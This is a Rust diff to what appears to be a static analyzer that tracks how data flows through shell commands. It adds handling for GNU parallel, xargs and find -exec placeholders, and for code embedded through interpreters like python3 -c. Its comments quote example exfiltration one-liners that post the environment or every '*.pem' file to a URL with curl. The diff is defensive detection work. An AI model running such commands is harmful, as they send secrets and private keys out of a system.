@@ -638,6 +638,9 @@ impl<'c, 'r, 's> Walker<'c, 'r, 's> {
         let embedded = self.ctx.rules.embedded(Language::Bash, &call);
 
         let inner = self.ctx.rules.wrapper(&name).map(|w| w.inner_command(&words));
+        if name == "parallel" {
+            output = output.union(self.parallel_commands(&words, span, pipe));
+        }
         if name == "read" {
             self.read_into_variables(&words, &call);
         }
@@ -782,7 +785,17 @@ impl<'c, 'r, 's> Walker<'c, 'r, 's> {
             // pass; calls in the script are followed with their words.
             Some(Embedded::Source(_, code))
                 if self.runs_its_callers_command(&Expr::new(Value::Formatted(code.clone()))) => {}
-            Some(Embedded::Source(language, code)) => self.ctx.extract_embedded(language, &code, span),
+            Some(Embedded::Source(language, code)) => {
+                // What the code takes in is what it can print: `python3 -c 'print(dict(os.environ))'
+                // | curl -d @- URL` sends the environment.
+                let before = self.ctx.facts(language).calls.len();
+                self.ctx.extract_embedded(language, &code, span);
+                let local = self.local_data_labels();
+                let taken = self.ctx.facts(language).calls[before..]
+                    .iter()
+                    .fold(Taints::NONE, |t, c| t.union(c.taints));
+                output = output.union(Taints(taken.0 & local.0));
+            }
             Some(Embedded::Opaque(_, code)) if self.runs_its_callers_command(&code) => {}
             Some(Embedded::Opaque(language, code)) => self.ctx.opaque_code(Language::Bash, language, &code, span),
             Some(Embedded::Argv(argv)) => {
@@ -795,15 +808,166 @@ impl<'c, 'r, 's> Walker<'c, 'r, 's> {
             }
             None => {}
         }
-        if let Some(inner) = inner
+        if let Some(mut inner) = inner
             && !inner.is_empty()
         {
+            // `find / -name '*.pem' -exec curl -F f=@{} URL \;`: `{}` is each file found under
+            // find's starting point.
+            if name == "find"
+                && let Some(start) = words[1..]
+                    .iter()
+                    .take_while(|w| w.text().is_some_and(|t| !t.starts_with(['-', '(', '!'])))
+                    .find_map(|w| match &w.value {
+                        Value::Str(t) => Some(t.clone()),
+                        _ => None,
+                    })
+            {
+                let under = format!("{}/{{}}", start.trim_end_matches('/'));
+                for word in inner.iter_mut().skip(1) {
+                    if let Value::Str(text) = &word.value
+                        && text.contains("{}")
+                    {
+                        word.value = Value::Str(text.replace("{}", &under));
+                    }
+                }
+            }
+            // `... | xargs -I{} curl "https://h/?d={}"`: xargs makes the command's arguments from
+            // its standard input (where the placeholder is, or after the words given).
+            if name == "xargs" && !pipe.stdin.is_empty() {
+                let placeholder = xargs_placeholder(&words);
+                let mut placed = false;
+                if let Some(placeholder) = &placeholder {
+                    // (A word that is only the placeholder, `sh -c '{}'`, is code xargs fills in:
+                    // asked about as such, not data.)
+                    for word in inner.iter_mut().skip(1) {
+                        if word
+                            .text()
+                            .is_some_and(|t| t.contains(placeholder.as_str()) && t.as_ref() != placeholder.as_str())
+                        {
+                            word.taints = word.taints.union(pipe.stdin);
+                            placed = true;
+                        }
+                    }
+                }
+                if !placed && placeholder.is_none() {
+                    inner.push(Expr::other(pipe.stdin));
+                }
+            }
             let mut inner_via = via;
             inner_via.push(name);
             return output.union(self.command_from_words(inner, span, pipe, inner_via));
         }
         output
     }
+}
+
+impl<'s> Walker<'_, '_, 's> {
+    /// GNU parallel runs its command once per argument after `:::` (or per line of its input);
+    /// with no command, each argument (or input line) is itself a command line.
+    fn parallel_commands(&mut self, words: &[Expr], span: Span, pipe: &Pipe) -> Taints {
+        const WITH_VALUE: &[&str] = &[
+            "-j",
+            "--jobs",
+            "-P",
+            "--max-procs",
+            "-S",
+            "--sshlogin",
+            "--joblog",
+            "-a",
+            "--arg-file",
+            "--colsep",
+            "-d",
+            "--delimiter",
+            "-I",
+            "--results",
+            "--timeout",
+            "--retries",
+            "--tmpdir",
+            "-n",
+            "-N",
+            "-L",
+            "--max-args",
+            "--halt",
+            "--delay",
+            "--memfree",
+            "--load",
+        ];
+        let mut i = 1;
+        while let Some(text) = words.get(i).and_then(|w| w.text()) {
+            if !text.starts_with('-') || text == "-" || text.starts_with(":::") {
+                break;
+            }
+            // `parallel -V`, `--help`, `--citation`, `--number-of-cores`: it reports, runs nothing.
+            if matches!(
+                text.as_ref(),
+                "-V" | "--version"
+                    | "-h"
+                    | "--help"
+                    | "--citation"
+                    | "--bibtex"
+                    | "--number-of-cpus"
+                    | "--number-of-cores"
+                    | "--number-of-sockets"
+                    | "--number-of-threads"
+                    | "--max-line-length-allowed"
+            ) {
+                return Taints::NONE;
+            }
+            i += if WITH_VALUE.contains(&text.as_ref()) { 2 } else { 1 };
+        }
+        let rest = words.get(i..).unwrap_or_default();
+        let separator = rest.iter().position(|w| {
+            w.text()
+                .is_some_and(|t| matches!(t.as_ref(), ":::" | "::::" | ":::+" | "::::+"))
+        });
+        let command = &rest[..separator.unwrap_or(rest.len())];
+        let arguments = separator.map(|s| &rest[s + 1..]).unwrap_or_default();
+        let argument_taints = arguments.iter().fold(pipe.stdin, |t, a| t.union(a.taints));
+        if !command.is_empty() {
+            let mut argv = command.to_vec();
+            argv.push(Expr::other(argument_taints));
+            return self.command_from_words(argv, span, pipe, vec!["parallel".into()]);
+        }
+        if separator.is_some() {
+            for argument in arguments {
+                match argument.text() {
+                    Some(text) if argument.is_literal() => {
+                        let text = text.into_owned();
+                        self.ctx.extract_embedded(Language::Bash, &text, span);
+                    }
+                    _ => self.ctx.opaque_code(Language::Bash, Language::Bash, argument, span),
+                }
+            }
+        } else {
+            // Commands read from its input: a file of the working directory is the program's own.
+            self.ctx
+                .opaque_code(Language::Bash, Language::Bash, &Expr::other(pipe.stdin), span);
+        }
+        Taints::NONE
+    }
+}
+
+/// xargs's replacement string (`-I{}`, `-I %`, `-i`, `--replace=R`), if it has one.
+fn xargs_placeholder(words: &[Expr]) -> Option<String> {
+    let texts: Vec<String> = words.iter().filter_map(|w| w.text().map(|t| t.into_owned())).collect();
+    for (i, text) in texts.iter().enumerate().skip(1) {
+        if text == "-I" {
+            return texts.get(i + 1).cloned();
+        }
+        if let Some(rest) = text.strip_prefix("-I") {
+            return Some(rest.to_string());
+        }
+        if text == "-i" || text == "--replace" {
+            return Some("{}".into());
+        }
+        if let Some(rest) = text.strip_prefix("--replace=").or_else(|| text.strip_prefix("-i")) {
+            return Some(rest.to_string());
+        }
+        if !text.starts_with('-') {
+            break;
+        }
+    }
+    None
 }
 
 /// The flag of an interpreter's call that is given its code (`python3 -c CODE`, `awk PROGRAM`),
